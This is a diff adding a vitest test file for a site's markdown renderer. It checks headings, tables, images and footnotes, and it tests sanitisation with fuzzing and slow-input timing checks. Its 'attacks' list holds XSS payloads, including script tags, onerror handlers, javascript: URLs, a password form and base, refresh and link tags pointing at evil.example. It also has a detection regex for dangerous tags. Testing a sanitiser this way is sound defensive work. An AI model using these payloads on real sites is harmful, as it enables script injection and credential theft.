@@ -1,0 +1,204 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { picturesIn, renderArticle, renderPost } from './render.server.ts'
+
+describe('an article', () => {
+  test('has headings with anchors, a table of contents and a reading time', () => {
+    const { html, toc, readingMinutes, text } = renderArticle('# One\n\nSome words.\n\n## One\n\n### A *b*\n\n#### Deep')
+    expect(html).toContain('<h2 id="section-one"><a class="anchor" href="#section-one">One</a></h2>')
+    expect(toc).toEqual([
+      { id: 'section-one', text: 'One', level: 2 },
+      { id: 'section-one-1', text: 'One', level: 2 },
+      { id: 'section-a-b', text: 'A b', level: 3 },
+    ])
+    expect(readingMinutes).toBe(1)
+    expect(text).toBe('One Some words. One A b Deep')
+  })
+
+  test('counts a minute for 220 words', () => {
+    expect(renderArticle('word '.repeat(1100)).readingMinutes).toBe(5)
+  })
+
+  test('colours code and lets it scroll by keyboard', () => {
+    const { html } = renderArticle('```sql\nselect 1 from wins\n```')
+    expect(html).toContain('<pre tabindex="0"><code class="hljs language-sql"><span class="hljs-keyword">select</span>')
+  })
+
+  test('leaves code of an unknown language alone', () => {
+    expect(renderArticle('```klingon\nqapla\n```').html).toContain('qapla')
+  })
+
+  test('wraps tables in named regions', () => {
+    const table = '| Kind | Use |\n| --- | --: |\n| Cash | 1 |\n'
+    const { html } = renderArticle(`${table}\n\nThen\n\n${table}`)
+    expect(html).toContain('<div class="table" role="region" aria-label="Table: Kind, Use" tabindex="0"><table>')
+    expect(html).toContain('aria-label="Table: Kind, Use (2)"')
+    expect(html).toContain('<td align="right">1</td>')
+    expect(html).not.toContain('style=')
+  })
+
+  test('shows a stored picture in all its forms, sized and lazy, with its title as caption', () => {
+    const url = '/files/articles/thumbnails/17.png'
+    const images = new Map([[url, { url, width: 900, height: 300, color: '#ffffff', widths: [320, 900] }]])
+    const { html } = renderArticle(`![Rings](${url} "Three rings")`, images)
+    expect(html).toContain('<figure><picture><source type="image/avif" srcset="/files/articles/thumbnails/17-320.avif 320w')
+    expect(html).toContain(`<img src="${url}" alt="Rings" width="900" height="300" loading="lazy" decoding="async"></picture>`)
+    expect(html).toContain('<figcaption>Three rings</figcaption></figure>')
+  })
+
+  test('turns a picture from elsewhere into a link', () => {
+    expect(renderArticle('![Pixel](https://elsewhere.example/p.gif)').html).toBe(
+      '<p><a href="https://elsewhere.example/p.gif" rel="noopener">Pixel</a></p>',
+    )
+    expect(renderArticle('![x](/files/articles/../../campus/leave)').html).not.toContain('<img')
+  })
+
+  test('keeps footnotes that lead there and back', () => {
+    const { html, toc } = renderArticle('A claim.[^1]\n\n[^1]: Its source.')
+    const [, reference] = /href="#(note-[0-9a-f]{8}-fn-1)"/.exec(html) ?? []
+    expect(html).toContain(`<li id="${reference}">`)
+    expect(html).toContain('class="visually-hidden"')
+    expect(toc).toEqual([])
+  })
+
+  test('names the boxes of task lists', () => {
+    expect(renderArticle('- [x] Rehearsed\n- [ ] Recorded').html).toContain(
+      '<input type="checkbox" checked disabled aria-label="Rehearsed">',
+    )
+  })
+
+  test('keeps the little HTML that markdown has no sign for, and nothing more', () => {
+    const { html } = renderArticle('Press <kbd>Tab</kbd> <b onclick="x()" style="color:red" id="body">now</b><script>alert(1)</script>')
+    expect(html).toBe('<p>Press <kbd>Tab</kbd> <b>now</b></p>')
+  })
+})
+
+describe('a post', () => {
+  test('lends no good name to links', () => {
+    expect(renderPost('[a](https://elsewhere.example) [b](//elsewhere.example) [c](/campus)').html).toBe(
+      '<p><a href="https://elsewhere.example" rel="nofollow ugc noopener">a</a> <a href="//elsewhere.example" rel="nofollow ugc noopener">b</a> <a href="/campus">c</a></p>',
+    )
+  })
+
+  test('has no heading above h3 and no HTML', () => {
+    expect(renderPost('# Loud\n\n<b>x</b> <img src=x onerror=alert(1)>').html).toBe('<h3>Loud</h3>\n<p>x </p>')
+  })
+})
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt&colon;alert(1))',
+  '[x](java\nscript:alert(1))',
+  '<a href="javascript:alert(1)">x</a>',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '![x](javascript:alert(1))',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)>',
+  '<math><mtext></p><script>alert(1)</script>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<style>*{display:none}</style>',
+  '<p style="position:fixed">x</p>',
+  '<form action=//evil.example><input name=password><button>ok',
+  '<a id=location name=cookie>x</a>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<template><script>alert(1)</script></template>',
+  '<base href="//evil.example"><meta http-equiv=refresh content="0;//evil.example"><link rel=stylesheet href=//evil.example>',
+  '```js" onload="alert(1)\nx\n```',
+  '# <img src=x onerror=alert(1)>',
+  '[^1]: <script>alert(1)</script>\n\n[^1]',
+  '<details ontoggle=alert(1) open>x</details>',
+  '<div itemscope><h2 id="section-x" class="visually-hidden">x</h2></div>',
+]
+
+const forbidden =
+  /<(?:script|style|svg|math|iframe|form|button|textarea|object|embed|base|meta|link|template|noscript)\b|<[^>]*\s(?:on\w+|style|name|srcdoc|formaction)\s*=|(?:href|src)="\s*(?:javascript|data|vbscript)/i
+
+describe('hostile markdown', () => {
+  test.each(attacks)('%s', (attack) => {
+    for (const html of [renderArticle(attack).html, renderPost(attack).html]) expect(withoutText(html)).not.toMatch(forbidden)
+  })
+
+  test('any mixture of attacks stays harmless', () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...attacks),
+      fc.constantFrom(
+        '> ',
+        '- ',
+        '\n',
+        '\n\n',
+        '    ',
+        '`',
+        '```\n',
+        '|',
+        '| --- |\n',
+        '*',
+        '_',
+        '[',
+        '](',
+        ')',
+        '<',
+        '>',
+        '"',
+        "'",
+        '\\',
+        '&#x6a;',
+        '\0',
+        '\u202e',
+      ),
+      fc.string({ maxLength: 12 }),
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
+        const markdown = pieces.join('')
+        for (const html of [renderArticle(markdown).html, renderPost(markdown).html]) {
+          const tags = withoutText(html)
+          expect(tags).not.toMatch(forbidden)
+          for (const [, id] of tags.matchAll(/\sid="([^"]*)"/g)) expect(id).toMatch(/^(?:section|note)-/)
+        }
+      }),
+      { numRuns: 400 },
+    )
+  }, 60_000)
+
+  test.each([
+    ['quotes', '>'.repeat(20_000)],
+    ['spaced quotes', '> '.repeat(10_000)],
+    ['lists', '- '.repeat(10_000)],
+    ['numbered lists', '1. '.repeat(6_000)],
+    ['brackets', '['.repeat(20_000)],
+    ['closed brackets', `${'['.repeat(5_000)}a${']'.repeat(5_000)}`],
+    ['links in links', '[a]('.repeat(5_000)],
+    ['stars', '*a '.repeat(6_000)],
+    ['closed stars', `${'*a '.repeat(3_000)}${' a*'.repeat(3_000)}`],
+    ['as many closed stars as are paired', `${'*a '.repeat(200)}${' a*'.repeat(200)}`],
+    ['strong', '**a **b '.repeat(2_500)],
+    ['backticks', Array.from({ length: 190 }, (_, length) => '`'.repeat(length)).join(' ')],
+    ['tables', `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}`],
+    ['open tags', '<b>'.repeat(6_000)],
+    ['comments', '<!--'.repeat(5_000)],
+    ['entities', '&amp;'.repeat(4_000)],
+    ['footnotes', '[^a]'.repeat(5_000)],
+    ['indented lists', Array.from({ length: 190 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n')],
+    ['quotes on many lines', '>>>>>>>>>>>>>>>>>>>>\n'.repeat(950)],
+    ['autolinks', 'www.a.a '.repeat(2_500)],
+    ['mail addresses', 'a@'.repeat(10_000)],
+  ])('20,000 characters of %s take no long time', (_name, markdown) => {
+    const started = performance.now()
+    renderPost(markdown)
+    expect(performance.now() - started).toBeLessThan(5_000)
+  })
+})
+
+test('addresses of pictures are found once', () => {
+  expect(picturesIn('![a](/files/articles/thumbnails/1.png) ![a](/files/articles/thumbnails/1.png)')).toEqual([
+    '/files/articles/thumbnails/1.png',
+  ])
+})
+
+// What stands between tags is text; only tags and their attributes can do harm.
+function withoutText(html: string): string {
+  return (html.match(/<\/?[a-z](?:"[^"]*"|[^">])*>/gi) ?? []).join('').replace(/(aria-label|alt|title)="[^"]*"/g, '')
+}
